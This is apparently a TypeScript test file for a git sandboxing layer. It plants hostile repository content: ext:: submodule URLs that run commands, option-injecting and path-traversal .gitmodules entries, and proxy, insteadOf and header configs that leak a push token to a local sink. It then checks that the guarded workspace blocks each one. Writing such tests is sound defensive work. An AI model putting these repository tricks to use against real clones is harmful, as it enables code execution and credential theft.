import { execFileSync } from "node:child_process";
import { chmodSync, existsSync } from "node:fs";
import { createServer } from "node:http";
import { join } from "node:path";
import { describe, expect, onTestFinished, test } from "vitest";
import { cloned, inClone, put, worldOfHub } from "./hub-world.ts";
import { plainProcesses, runIn } from "./jail-run.ts";
import { bareOf, commitTo, makeWorld, PATH, plainGit, RUN, temporaryDirectory } from "./world.ts";

describe("git and addresses that a repository or a clone names", () => {
  test("G-05: submodules are never fetched, whatever their addresses are", async () => {
    const world = await makeWorld({ "a.txt": "a\n" }, { jail: plainProcesses() });
    const trace = join(temporaryDirectory("trip"), "tripped");
    const bare = bareOf(world);
    const gitmodules = `[submodule "kit"]\n\tpath = kit\n\turl = "ext::touch ${trace}"\n`;
    commitTo(bare, "main", { ".gitmodules": gitmodules });
    linkCommit(bare, "kit");
    const naive = join(temporaryDirectory("naive"), "clone");
    try {
      const allow = ["-c", "protocol.ext.allow=always"];
      plainGit("/tmp", ...allow, "clone", "--quiet", "--recurse-submodules", bare, naive);
    } catch {
      // The address is no repository; what counts is that it was run.
    }
    expect(existsSync(trace), "the attack works where nothing guards").toBe(true);
    execFileSync("rm", [trace]);
    const clone = await cloned(world);
    const commands = [command("ls -d kit; git submodule status")];
    const { signal } = new AbortController();
    await world.workspaces.run(world.repo, { runId: RUN, sha: clone.baseSha, commands, signal });
    expect(existsSync(trace)).toBe(false);
  });

  test.each([
    ["a name that leaves its folder", '[submodule "x/../../../y"]\n\tpath = kit\n\turl = ./kit\n'],
    ["an address that is an option", '[submodule "kit"]\n\tpath = kit\n\turl = -u./evil\n'],
    ["a path that is an option", '[submodule "kit"]\n\tpath = -kit\n\turl = ./kit\n'],
    [
      "an update that is a command",
      '[submodule "kit"]\n\tpath = kit\n\turl = ./k\n\tupdate = !touch x\n',
    ],
  ])("G-05: a repository whose submodules have %s is not even fetched", async (_name, text) => {
    const world = await makeWorld({ ".gitmodules": text }, { jail: plainProcesses() });
    await expect(cloned(world)).rejects.toThrow(/disallowed submodule/);
  });

  test("G-06: addresses, proxies and headers planted in a clone never see the push token", async () => {
    const world = await worldOfHub();
    const { repo, workspaces, used } = world;
    const sink = await listen();
    const clone = await cloned(world);
    const plant = `git config http.proxy ${sink.url}; git config http.sslVerify false; git config http.extraHeader "X-Mine: 1"; git config url.${sink.url}/.insteadOf ${world.url}/; echo x > x.txt`;
    await inClone(world, clone, plant);
    const naive = join(temporaryDirectory("naive"), "clone");
    execFileSync("cp", ["-r", clone.dir, naive]);
    const header = `http.extraHeader=Authorization: Basic ${Buffer.from("x:ghs_naive").toString("base64")}`;
    const unguarded = `git -c safe.directory='*' -c '${header}' push ${world.url}/acme/shop.git HEAD:refs/heads/x`;
    await runIn(plainProcesses(), `cd ${naive}; ${unguarded}`);
    expect(sink.seen.join("\n")).toContain("Basic ");
    sink.seen.splice(0);

    const made = await workspaces.collect(repo, clone, { message: "Change" });
    if (made.kind !== "commit") throw new Error("Nothing was made");
    const branch = "orchestrate/1-x-r1/implementation-api";
    const push = { branch, sha: made.sha, expected: undefined };
    expect(await workspaces.push(repo, push)).toEqual({ kind: "pushed" });
    expect(used.length).toBeGreaterThan(1);
    expect(sink.seen).toEqual([]);
  });

  test("G-11: large files are never asked for, whatever the operator's git would do", async () => {
    const trace = join(temporaryDirectory("trip"), "tripped");
    const bin = temporaryDirectory("bin");
    put(join(bin, "git-lfs"), `#!/bin/sh\necho "$GIT_CONFIG_VALUE_0" >> ${trace}\ncat\n`);
    chmodSync(join(bin, "git-lfs"), 0o755);
    const home = temporaryDirectory("home");
    put(
      join(home, ".gitconfig"),
      '[filter "lfs"]\n\tsmudge = git-lfs smudge -- %f\n\trequired = true\n',
    );
    const env = { PATH: `${bin}:${PATH}`, HOME: home };
    const files = {
      ".gitattributes": "*.bin filter=lfs diff=lfs merge=lfs -text\n",
      ".lfsconfig": "[lfs]\n\turl = http://127.0.0.1:9/sink\n",
      "big.bin": `version https://git-lfs.github.com/spec/v1\noid sha256:${"1".repeat(64)}\nsize 1\n`,
    };
    const world = await makeWorld(files, { jail: plainProcesses(), env });
    const naive = join(temporaryDirectory("naive"), "clone");
    execFileSync("git", ["clone", "--quiet", bareOf(world), naive], { env });
    expect(existsSync(trace), "the attack works where nothing guards").toBe(true);
    execFileSync("rm", [trace]);
    await cloned(world);
    expect(existsSync(trace)).toBe(false);
  });
});

/** Adds an entry for a commit of another repository to `main`, as `git submodule add` does. */
function linkCommit(bare: string, path: string): void {
  const work = join(temporaryDirectory("linker"), "work");
  plainGit("/tmp", "clone", "--quiet", bare, work);
  plainGit(work, "update-index", "--add", "--cacheinfo", `160000,${"1".repeat(40)},${path}`);
  const identity = ["-c", "user.name=P", "-c", "user.email=p@example.invalid"];
  plainGit(work, ...identity, "commit", "--quiet", "-m", "Link");
  plainGit(work, "push", "--quiet", "origin", "HEAD:main");
}

function command(text: string) {
  return {
    kind: "test" as const,
    command: text,
    cwd: ".",
    source: "detected" as const,
    timeoutMs: 20_000,
  };
}

async function listen(): Promise<{ url: string; seen: string[] }> {
  const seen: string[] = [];
  const server = createServer((request, response) => {
    seen.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)}`);
    response.writeHead(404).end();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  onTestFinished(() => {
    server.closeAllConnections();
    server.close();
  });
  const address = server.address();
  return { url: `http://127.0.0.1:${typeof address === "object" ? address?.port : 0}`, seen };
}
